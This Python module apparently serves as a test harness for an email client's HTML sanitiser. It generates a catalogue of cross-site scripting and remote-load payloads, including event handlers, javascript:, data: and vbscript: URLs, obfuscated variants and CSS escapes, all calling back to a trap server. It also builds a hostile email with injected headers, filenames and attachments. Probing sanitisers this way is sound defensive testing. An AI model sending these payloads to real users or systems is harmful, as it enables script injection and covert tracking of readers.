"""Messages whose writer wants scripts to run and servers to be asked by those who read them."""

from __future__ import annotations

from email.headerregistry import Address
from email.message import EmailMessage

from server import message


def script(origin: str, name: str) -> str:
    return f"fetch('{origin}/script-{name}');document.title='owned';alert(1)"


def vectors(origin: str) -> dict[str, str]:
    """Pieces of HTML, each of which asks the trap for its own name where nothing stops it."""

    def run(name: str) -> str:
        return script(origin, name)

    return {
        "script-tag": f"<script>{run('tag')}</script>",
        "script-src": f"<script src={origin}/script-src></script>",
        "script-onerror": f'<img src=x:x onerror="{run("onerror")}">',
        "script-svg": f'<svg onload="{run("svg")}"></svg>',
        "script-toggle": f'<details open ontoggle="{run("toggle")}">x</details>',
        "script-focus": f'<input autofocus onfocus="{run("focus")}">',
        "script-javascript-frame": f'<iframe src="javascript:{run("javascript-frame")}"></iframe>',
        "script-srcdoc": f"<iframe srcdoc=\"<script>parent.fetch('{origin}/script-srcdoc')</script>\"></iframe>",
        "image": f"<img src={origin}/image>",
        "image-srcset": f'<img srcset="{origin}/image-srcset 1x">',
        "image-input": f"<input type=image src={origin}/image-input>",
        "image-svg": f'<svg><image href="{origin}/image-svg"/></svg>',
        "image-background": f'<table background="{origin}/image-background"><tr><td>x</table>',
        "css-link": f'<link rel=stylesheet href="{origin}/css-link">',
        "css-import": f"<style>@import url({origin}/css-import);</style>",
        "css-url": f'<div style="background:url({origin}/css-url);width:9px;height:9px">x</div>',
        "css-escaped": f'<div style="background:u\\72l({origin}/css-escaped);width:9px;height:9px">x</div>',
        "css-rule": f"<style>p.h{{background:url({origin}/css-rule)}}</style><p class=h>x</p>",
        "css-font": f"<style>@font-face{{font-family:h;src:url({origin}/css-font)}}i.h{{font-family:h}}</style>"
        "<i class=h>x</i>",
        "frame": f"<iframe src={origin}/frame></iframe>",
        "object": f"<object data={origin}/object></object>",
        "embed": f"<embed src={origin}/embed>",
        "video": f"<video src={origin}/video poster={origin}/video-poster></video>",
        "audio": f"<audio src={origin}/audio autoplay></audio>",
        "preload": f'<link rel=preload as=image href="{origin}/preload">',
        "meta": f'<meta http-equiv=refresh content="3; url={origin}/meta">',
    }


def clicked(origin: str) -> str:
    """HTML that waits for a click."""
    run = script(origin, "click")
    return (
        f'<a href="javascript:{run}">javascript</a> <a href="java&#10;script:{run}">broken</a>'
        f' <a href="data:text/html,<script>{run}</script>">data</a> <a href="vbscript:{run}">vbscript</a>'
        f'<form action="{origin}/form"><input name=q><button formaction="javascript:{run}">go</button></form>'
    )


def page(origin: str) -> str:
    return "\n".join([*vectors(origin).values(), clicked(origin), "<p>The end of it.</p>"])


def letter(origin: str, recipient: str, mark: str) -> EmailMessage:
    """A message that is hostile in all its parts."""
    tag = f"<img src={origin}/header onerror=fetch('{origin}/script-header')>"
    made = message("evil@friend.example", recipient, f"{mark} {tag}", "plain")
    made.replace_header("From", Address(tag, addr_spec="evil@friend.example"))
    made.add_alternative(f'<html><body onload="{script(origin, "body")}">{page(origin)}</body></html>', subtype="html")
    made.add_attachment(f"<html>{page(origin)}</html>", subtype="html", filename="page.html")
    run = script(origin, "file")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    made.add_attachment(svg.encode(), maintype="image", subtype="svg+xml", filename="picture.svg")
    made.add_attachment(b"x", maintype="application", subtype="octet-stream", filename=f"{tag}.bin")
    return made
